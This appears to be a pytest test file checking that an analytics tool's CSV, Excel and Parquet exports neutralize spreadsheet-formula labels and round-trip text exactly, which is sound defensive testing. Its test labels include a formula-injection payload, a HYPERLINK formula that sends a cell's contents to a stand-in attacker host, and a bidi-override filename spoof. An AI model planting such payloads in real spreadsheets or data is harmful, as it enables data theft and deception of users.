"""Exports stay safe to open whatever the key labels hold, and round-trip exactly.

An organization whose labels are formulas, control characters, right-to-left text, emoji,
commas, quotes and line breaks is exported by the real command. In CSV and Excel every label a
spreadsheet would run gets a leading apostrophe (`--raw` writes text as it is, for machines);
Parquet keeps text exactly; pandas reads every file back to the same labels and numbers.
"""

from __future__ import annotations

import os
from datetime import date, timedelta

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape
from support.faultserver import PASS, FaultServer, write_org_file
from typer.testing import CliRunner

from analytics.cli import app as cli_app
from emulator import EmulatorConfig, create_app

LABELS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
    "=1+2",
    "+49 30 1234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading carriage return",
    "ميزانية التسويق",  # right-to-left
    "\u202eevil.exe\u202c (bidi override)",
    "Rocket team 🚀👩🏽‍💻",
    'Sales, "EMEA" region',
    "two\nlines",
    "carriage\rreturn inside",
    "'already quoted",
    "plain label",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
KEYS = {
    f"k{i:03d}-hostile-label-{i:04d}" + ":adm" * (i == 0): label for i, label in enumerate(LABELS)
}
ADMIN = next(iter(KEYS))  # keys of index 0 end in :adm, the admin suffix
DAYS = [date(2025, 3, 30) + timedelta(days=i) for i in range(5)]


def guarded(label: str) -> str:
    return "'" + label if label.startswith(FORMULA_STARTS) else label


@pytest.fixture(scope="module")
def service(tmp_path_factory):
    path = write_org_file(tmp_path_factory.mktemp("org") / "org.toml", KEYS, DAYS, admin=ADMIN)
    app = create_app(EmulatorConfig(org_file=path, today=date(2025, 6, 1)))
    with FaultServer(app, [PASS]) as server:
        yield server, app.state.emulator
    app.state.emulator.store.close()


@pytest.fixture
def export(service, tmp_path, monkeypatch):
    server, _ = service
    for name in list(os.environ):
        if name.startswith("SERVICE_"):
            monkeypatch.delenv(name)

    def run(fmt: str, *options: str):
        out = tmp_path / f"usage.{fmt}"
        args = ["export", "--start", str(DAYS[0]), "--end", str(DAYS[-1]), "-o", str(out)]
        env = {
            "SERVICE_BASE_URL": server.base_url,
            "SERVICE_AUTH_KEY": ADMIN,
            "SERVICE_HISTORY_PATH": str(tmp_path / "history"),
        }
        result = CliRunner().invoke(cli_app, [*args, *options], env=env, catch_exceptions=False)
        assert result.exit_code == 0, result.stderr
        return out

    return run


def read_back(path) -> pd.DataFrame:
    if path.suffix == ".csv":
        return pd.read_csv(path, keep_default_na=False, dtype={"api_key_label": str})
    if path.suffix == ".xlsx":
        # A CR cannot stand raw in the sheet's XML, so it is stored as the OOXML escape
        # `_x000D_` (what Excel itself writes and shows as a CR); openpyxl leaves it escaped.
        table = pd.read_excel(path, engine="openpyxl", keep_default_na=False)
        table["api_key_label"] = table["api_key_label"].map(unescape)
        return table
    return pd.read_parquet(path)


def check_numbers(table: pd.DataFrame, emulator) -> None:
    ledger = emulator.ledger(DAYS[0], DAYS[-1])
    assert len(table) == len(ledger) == len(KEYS) * len(DAYS)
    assert table["text_translation_characters"].sum() == sum(
        row.text_translation_characters for row in ledger
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_spreadsheet_formats_neutralize_formulas(fmt, export, service):
    table = read_back(export(fmt))
    assert set(table["api_key_label"]) == {guarded(label) for label in LABELS}
    assert not any(str(v).startswith(FORMULA_STARTS) for v in table.to_numpy().ravel())
    check_numbers(table, service[1])


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_raw_exports_keep_text_exactly(fmt, export, service):
    table = read_back(export(fmt, "--raw"))
    assert set(table["api_key_label"]) == set(LABELS)
    check_numbers(table, service[1])


def test_parquet_keeps_text_exactly_without_raw(export, service):
    table = read_back(export("parquet"))
    assert set(table["api_key_label"]) == set(LABELS)
    check_numbers(table, service[1])


def test_excel_cells_are_text_never_formulas_or_links(export):
    book = openpyxl.load_workbook(export("xlsx", "--raw"))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    column = header.index("api_key_label") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert {unescape(cell.value) for cell in cells} == set(LABELS)
    # Even unguarded, the writer stores text as text: nothing becomes a formula or a link.
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)


def test_per_key_export_is_guarded_too(export):
    table = read_back(export("csv", "--group-by", "key"))
    assert sorted(table["api_key_label"]) == sorted(guarded(label) for label in LABELS)
    assert table["total_characters"].is_monotonic_decreasing


def test_csv_is_rfc_4180(export):
    raw = export("csv", "--raw").read_bytes()
    assert raw.decode("utf-8").count('"Sales, ""EMEA"" region"') == len(DAYS)
    # Every record ends in CRLF; line breaks inside labels are inside quotes.
    assert raw.endswith(b"\r\n")
    assert b'"two\nlines"' in raw and b'"carriage\rreturn inside"' in raw
